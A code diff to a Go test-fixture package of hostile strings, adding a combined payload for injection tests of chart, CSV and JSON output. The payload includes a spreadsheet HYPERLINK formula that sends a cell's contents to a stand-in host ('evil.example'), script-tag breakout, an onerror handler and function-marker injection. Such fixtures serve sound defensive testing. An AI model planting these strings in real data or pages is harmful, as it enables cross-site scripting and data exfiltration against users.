@@ -13,7 +13,11 @@ const (
 	Formula = `=HYPERLINK("http://x","click")`
 	// Markers are go-echarts' function markers, which its renderers turn into code.
 	Markers = `__f__alert(3)__f__`
+	// Combined is all of them in one string a seed file could carry into any name, unit, note or source: it
+	// starts with a spreadsheet formula, closes a script, adds an element with a handler, carries function
+	// markers, and holds the characters CSV and JSON must quote (quotes, a comma, a line break).
+	Combined = `=HYPERLINK("https://evil.example/?"&A1,"x")</script><script>alert('stored')</script><img src=x onerror=alert(2)>__f__function(){alert(3)}__f__ "q",c;` + "\n" + `'end`
 )
 
 // All are the hostile strings, for tests that try each.
-func All() []string { return []string{Markup, Script, Formula, Markers} }
+func All() []string { return []string{Markup, Script, Formula, Markers, Combined} }
